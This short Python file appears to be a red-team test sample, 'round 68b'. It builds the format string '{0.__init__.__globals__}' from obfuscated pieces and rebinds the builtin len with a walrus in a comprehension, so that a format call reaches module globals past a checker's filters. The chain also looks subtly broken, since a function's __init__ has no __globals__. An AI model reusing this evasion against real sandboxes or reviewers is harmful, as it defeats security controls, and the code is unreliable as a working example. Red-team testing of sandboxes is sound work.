# family: red team, round 68b (len bound by a walrus in a comprehension)
class Evil:
    def __rmul__(self, other):
        u = "x_"[1] + "x_"[1]
        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
def mk(x):
    return Evil()
def show():
    return 1
def f():
    [(len := mk) for _ in [0]]
    return ("{}" * len(show)).format(show)
print(f())
